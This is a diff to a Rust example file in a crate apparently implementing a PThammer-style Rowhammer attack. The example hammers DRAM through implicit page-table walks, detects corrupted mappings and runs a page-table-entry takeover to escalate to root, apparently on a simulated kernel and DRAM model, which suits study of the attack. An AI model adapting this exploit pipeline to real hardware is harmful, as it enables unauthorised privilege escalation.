@@ -2,15 +2,17 @@
 //! implicit page-table-walk accesses to flip a bit in a Level-1 page-table
 //! entry, captures another page table through the corrupted mapping, maps its
 //! own `struct cred` and becomes root. This example walks through the stages
-//! explicitly and prints what each one produced.
+//! explicitly — including the victim lifecycle (`profile → evaluate →
+//! attack`) the pipeline's `Exploit` phase drives — and prints what each one
+//! produced.
 //!
 //! Run with: `cargo run --release --example privilege_escalation`
 
 use pthammer::{
     detect::scan_for_corrupted_mappings,
-    exploit::attempt_escalation,
     pairs::{candidate_pairs, conflict_threshold, verify_same_bank},
-    AttackConfig, ImplicitHammer, PtHammer,
+    victim::{ExploitCtx, PteTakeover},
+    AttackConfig, ImplicitHammer, PtHammer, Victim,
 };
 use pthammer_dram::FlipModelProfile;
 use pthammer_kernel::System;
@@ -47,6 +49,17 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     let threshold = conflict_threshold(&sys);
     let mut rng = StdRng::seed_from_u64(7);
 
+    // The victim lifecycle the pipeline's `Exploit` phase drives: profile
+    // once, then evaluate/attack per finding.
+    let mut victim = PteTakeover;
+    let flip_profile = victim.profile(&sys, pid)?;
+    println!(
+        "[*] victim `{}` profiled ({} targeted flips: the spray makes any exploitable flip usable)",
+        victim.name(),
+        flip_profile.targets.len()
+    );
+
+    let mut rounds_hammered = 0;
     for attempt in 1..=config.max_attempts {
         let pair = candidate_pairs(&prepared.spray, row_span, 1, &mut rng)[0];
         let hammer = ImplicitHammer::prepare(
@@ -77,6 +90,7 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
             continue;
         }
         let stats = hammer.hammer(&mut sys, pid, config.hammer_rounds_per_attempt)?;
+        rounds_hammered += stats.rounds;
         println!(
             "[{attempt:02}] hammered {} rounds, avg {:.0} cycles/round, {:.0}% implicit DRAM hits",
             stats.rounds,
@@ -90,20 +104,23 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
                 "     corrupted mapping at {} -> {:?}",
                 finding.vaddr, finding.kind
             );
-            if let Some(route) = attempt_escalation(
-                &mut sys,
-                pid,
-                &prepared.tlb_pool,
-                &prepared.spray,
-                finding,
-                uid,
-            )? {
-                println!("[+] privilege escalation via {route:?}");
-                println!(
-                    "[+] getuid({}) = {}",
-                    route.escalated_pid(),
-                    sys.getuid(route.escalated_pid())?
-                );
+            let verdict = victim.evaluate(&flip_profile, finding);
+            if !verdict.is_usable() {
+                println!("     victim rejected the finding: {verdict:?}");
+                continue;
+            }
+            let exploit = ExploitCtx {
+                tlb_pool: &prepared.tlb_pool,
+                spray: &prepared.spray,
+                attacker_uid: uid,
+                hammer_iterations: rounds_hammered,
+            };
+            let outcome = victim.attack(&mut sys, pid, &exploit, finding)?;
+            if outcome.success {
+                let escalated = outcome.escalated_pid().expect("escalation victim");
+                println!("[+] privilege escalation via {}", outcome.route_label());
+                println!("[+] getuid({escalated}) = {}", sys.getuid(escalated)?);
+                println!("[+] time to exploit: {rounds_hammered} hammer iterations");
                 return Ok(());
             }
         }
